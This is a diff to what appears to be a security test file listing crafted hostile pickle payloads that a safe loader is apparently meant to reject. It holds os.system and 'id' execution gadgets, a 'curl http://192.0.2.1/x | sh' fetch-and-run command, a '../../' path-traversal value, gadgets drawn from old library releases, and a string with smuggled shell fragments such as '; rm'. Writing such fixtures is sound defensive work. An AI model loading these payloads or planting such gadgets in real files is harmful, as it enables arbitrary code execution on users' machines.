@@ -104,6 +104,27 @@ HOSTILE = {
         make.stacked("numpy.core.multiarray", "scalar"), make.stacked("numpy", "dtype"),
         make.text("f8"), b"K\0K\1\x87R", make.text("os.system('id')"), b"\x86R",
     )),
+    "pickle-given-to-an-object": ("a.pkl", pickled(
+        make.stacked("unheard", "Text"),
+        b"B\x20\0\0\0\x80\4cos\nsystem\n".ljust(37, b"0"), b"\x85\x81",
+    )),
+    "object-that-is-called": (
+        "a.pkl", pickled(make.stacked("unheard", "Runner"), b")\x81", make.text("id"), b"\x85R")
+    ),
+    "class-of-an-old-release-called": ("a.pkl", pickled(
+        make.call("sklearn.tree.tree", "DecisionTreeClassifier", "curl http://192.0.2.1/x | sh")
+    )),
+    "importer-of-an-old-release": (
+        "a.pkl", pickled(make.call("torch._package.importer", "PackageImporter", "x.pt"))
+    ),
+    "graph-of-an-old-release": (
+        "a.pkl", pickled(make.call("torch._fx.graph_module", "deserialize_graphmodule", "x"))
+    ),
+    "reducer-that-loads": ("a.pkl", pickled(make.call("spacy.tokens.doc", "unpickle_doc", "x"))),
+    "wrapper-that-leaves-its-folder": ("a.pkl", pickled(
+        make.stacked("sklearn.externals.joblib.numpy_pickle", "NDArrayWrapper"), b")\x81}",
+        make.text("filename"), make.text("../../x.npy"), b"sb",
+    )),
     "memory-called": ("a.pkl", pickled(make.call("joblib.memory", "Memory", "/tmp/x"))),
 }  # fmt: skip
 MOLECULE = "\xef\xbe\xad\xde\x00\x00;N(id |\x01\x02\x06\x00`C; rm \x0c"
